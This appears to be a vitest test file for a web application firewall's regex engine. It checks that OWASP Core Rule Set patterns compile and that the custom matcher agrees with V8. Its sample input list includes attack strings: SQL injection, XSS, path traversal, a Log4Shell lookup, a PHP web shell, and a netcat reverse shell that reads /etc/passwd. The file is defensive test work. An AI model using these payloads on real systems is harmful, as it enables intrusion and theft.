import { describe, expect, test } from 'vitest';
import { makeRegexMatcher } from '../../../../src/edge/waf/regex/matcher.ts';
import { prepareRegex } from '../../../../src/edge/waf/regex/prepare-regex.ts';
import { crsCopies } from '../../../support/node/crs.ts';
import { readCrsPatterns } from '../../../support/node/crs-patterns.ts';

/** Ordinary values, and such as CRS looks for: short, so that V8 may run what is not proven for it too. */
const TEXTS = [
  '',
  'hello world',
  "' or 1=1-- -",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  'union all select null,version()',
  ';cat /etc/passwd|nc -e /bin/sh 10.0.0.1 80',
  '${jndi:ldap://x/a}',
  '<?php system($_GET["c"]);',
  'text/html,application/xhtml+xml;q=0.9, */*;q=0.8',
  'O:8:"stdClass":1:{s:1:"a";i:2;}',
  'application/json; charset=utf-8',
  '"><img src=x onerror=alert(1)>',
  'sleep(5)#\n\r\tand 1 between 2 and 3',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36',
  '\u00ef\u00bb\u00bfx\0\u00ff\u0080',
];

const copies = crsCopies();

describe.skipIf(copies.length === 0)('OWASP CRS (needs modsecurity-crs or EDGESHIELD_CRS)', () => {
  const sets = copies.map((copy) => ({ name: copy.name, patterns: readCrsPatterns(copy) }));

  test.each(sets)('$name: every pattern can run', ({ patterns }) => {
    expect(patterns.length).toBeGreaterThan(200);
    const refused = patterns.flatMap(({ id, source }) => {
      const prepared = prepareRegex(source, false);
      return prepared.ok ? [] : [`${id}: ${prepared.reason}`];
    });
    expect(refused).toEqual([]);
  });

  test.each(sets)(
    '$name: all engines find the same',
    ({ patterns }) => {
      for (const { id, source } of patterns) {
        const prepared = prepareRegex(source, false, true);
        for (const branch of prepared.ok ? prepared.branches : []) {
          if (branch.pattern.includes('(?>')) continue;
          const v8 = makeRegexMatcher({ ...branch, engine: 'v8' });
          const ours = makeRegexMatcher(branch.engine === 'v8' ? { ...branch, engine: 'dfa' } : branch);
          for (const text of TEXTS) {
            const [theirs, found] = [v8.search(text), ours.search(text)];
            expect([id, text, ours.test(text)]).toEqual([id, text, theirs !== null]);
            const folded = text.replace(/[A-Z]/g, (letter) => letter.toLowerCase());
            const lacking = branch.needs.filter((anyOf) => !anyOf.some((one) => folded.includes(one)));
            if (theirs !== null) expect([id, text, lacking]).toEqual([id, text, []]);
            expect([id, text, found?.start, found?.groups[0]]).toEqual([id, text, theirs?.start, theirs?.groups[0]]);
          }
        }
      }
    },
    60_000,
  );
});
